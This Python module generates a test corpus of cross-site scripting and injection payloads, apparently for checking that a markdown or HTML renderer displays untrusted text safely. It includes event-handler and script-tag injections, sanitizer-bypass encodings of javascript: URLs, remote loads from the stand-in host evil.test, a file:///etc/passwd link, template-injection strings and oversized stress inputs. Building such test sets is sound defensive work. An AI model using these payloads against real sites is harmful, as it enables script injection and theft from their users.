"""Payloads that try to run, load or restyle something where text should be shown."""

from __future__ import annotations

from itertools import product

RUN = "alert('run')"
REMOTE = "http://evil.test/x"

_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onbeforematch",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "iframe",
    "math",
    "marquee",
    "p",
)
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src={REMOTE}></script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p></div><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={REMOTE}></iframe>",
    f"<object data={REMOTE}></object>",
    f"<embed src={REMOTE}>",
    f"<img src={REMOTE}>",
    f"<img srcset='{REMOTE} 1x'>",
    f"<picture><source srcset={REMOTE}><img></picture>",
    f"<link rel=stylesheet href={REMOTE}>",
    f"<base href={REMOTE}>",
    f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
    f"<video poster={REMOTE}></video>",
    f"<audio src={REMOTE} autoplay></audio>",
    f"<style>*{{background:url({REMOTE})}}</style>",
    "<style>.pn-root{display:none}</style>",
    f"<style>@import '{REMOTE}';</style>",
    f"<div style='background:url({REMOTE})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<form action={REMOTE}><button>x</button></form>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={REMOTE} /></svg>",
    f"<svg><use href='{REMOTE}#x'/></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml ?><img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<x contenteditable onblur={RUN}>lose focus</x>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)
_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "blob:http://pane.test/x",
    f"filesystem:{REMOTE}",
    "about:blank",
    f"view-source:{REMOTE}",
    "//evil.test/x",
    "/files",
    "#top",
    "chrome://settings",
    f"jar:{REMOTE}!/",
    "intent://x#Intent;end",
    "ws://evil.test/",
)
_AROUND = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", "[![a]({})](https://safe.test/)",
)  # fmt: skip
_MARKDOWN = (
    f"```html\n<script>{RUN}</script>\n```", f"`<img src=x onerror={RUN}>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>\n- [x](javascript:{RUN})", f"# <svg onload={RUN}>",
    f"**<b onmouseover={RUN}>x</b>**", f"![<img src=x onerror={RUN}>]({REMOTE})",
    f'[x](https://safe.test/ "\' onmouseover={RUN} x=\'")', f'[x](https://safe.test/" onclick="{RUN})',
    f"``` onload={RUN}\nx\n```", f"```<img src=x onerror={RUN}>\nx\n```", f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{{REMOTE}}}$$", f"[^1]: <img src=x onerror={RUN}>", f"https://evil.test/<img src=x onerror={RUN}>",
    "\u202ecod.exe\u202c", "\u200b" * 500, "a\u0300" * 2000, "x" * 20_000, "[" * 3000, ">" * 3000,
    "*" * 3000, "`" * 3001, "&" * 3000 + "amp;", "\x00<b>\x00", "\ud83d", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "__proto__", "constructor", "<" * 3000,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)),
    *_WHOLE,
    *(around.format(scheme) for around, scheme in product(_AROUND, _SCHEMES)),
    *_MARKDOWN,
)
